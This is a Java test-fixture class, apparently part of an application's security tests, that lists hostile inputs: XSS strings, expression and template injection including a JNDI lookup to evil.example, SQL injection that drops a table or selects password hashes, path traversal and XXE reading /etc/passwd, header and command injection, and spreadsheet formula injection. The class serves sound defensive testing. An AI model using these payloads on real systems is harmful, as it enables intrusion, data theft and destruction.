package org.homeward.hostile;

import java.util.List;

/** What hostile people type. */
final class Payloads {

    /** Would set {@code window.hacked} if a page ever took it for a script. */
    static final List<String> SCRIPTS = List.of("\"><img src=x onerror=window.hacked=1>", "'><svg onload=window.hacked=1>", "</textarea><script>window.hacked=1</script>",
            "</title><script>window.hacked=1</script>", "javascript:window.hacked=1", "\" onfocus=window.hacked=1 autofocus x=\"", "' onmouseover='window.hacked=1",
            "<details open ontoggle=window.hacked=1>", "<iframe srcdoc=\"<script>parent.hacked=1</script>\">", "--><script>window.hacked=1</script>",
            "]]><script>window.hacked=1</script>", "\u0000<script>window.hacked=1</script>", "<a href=\"javascript:window.hacked=1\">x</a>", "<base href=//evil.example>",
            "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>", "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
            "\u2028window.hacked=1//", "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>", "\uFF1Cscript\uFF1Ewindow.hacked=1\uFF1C/script\uFF1E");

    static final List<String> EXPRESSIONS = List.of("#{1+1}", "${1+1}", "#{currentUser.become(null)}", "#{request.servletContext.classLoader}", "${''.class.forName('java.lang.Runtime')}",
            "#{facesContext.externalContext.invalidateSession()}", "{{7*7}}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "{0}", "{0,choice,0#a|1#b{1}}", "%s%n%x", "'{", "\\u0023{1+1}");

    static final List<String> QUERIES = List.of("' or '1'='1", "'; drop table case_file; --", "\" or 1=1 --", "1; select pg_sleep(5)", "') union select password_hash from user_account --",
            "%", "_", "%' escape '!", "\\", "\\'", "/* */", "*", "(((", "a'||'b", ":accessMe", "?1", "{fn now()}", "$$", "x'00'", "''");

    static final List<String> PATHS = List.of("../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "//evil.example", "http://127.0.0.1:1/", "\\\\evil\\x", "%2e%2e%2f",
            "con", "a\r\nSet-Cookie: hw-session=1", "%0d%0aX-Evil: 1", "a\nb", "\r", "a\tb", ";id", "|id", "`id`", "$(id)", "&& id");

    static final List<String> SHAPES = List.of("", " ", "\u0000", "a\u0000b", "\uD83D", "\uDE42\uD83D", "\uFFFE\uFFFF", "\u202Egnp.exe", "\u200B", "e\u0301".repeat(50), "\u0645".repeat(300), "\uD83D\uDC69\u200D\uD83D\uDC67",
            "a".repeat(100), "a".repeat(5_000), "x".repeat(200_000), "-1", "0", "1e999", "NaN", "-0", "99999999999999999999", "2147483648", "1.5", "\u0661\u0662", "true", "null", "undefined", "[]", "{}", "[object Object]",
            "30/2/2026", "2026-02-30", "0000-00-00", "1/1/-5", "31/12/9999", "+9999999999", "today", "25:61", "FEMALE", "no-such-code", "ADULT_RETURNEE", "00000000-0000-0000-0000-000000000000", "not-an-id",
            "=cmd|' /C calc'!A0", "@SUM(1+1)", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "(a+)+$", "a".repeat(40) + "!");

    private Payloads() {
    }

    static List<String> all() {
        return java.util.stream.Stream.of(SCRIPTS, EXPRESSIONS, QUERIES, PATHS, SHAPES).flatMap(List::stream).toList();
    }
}
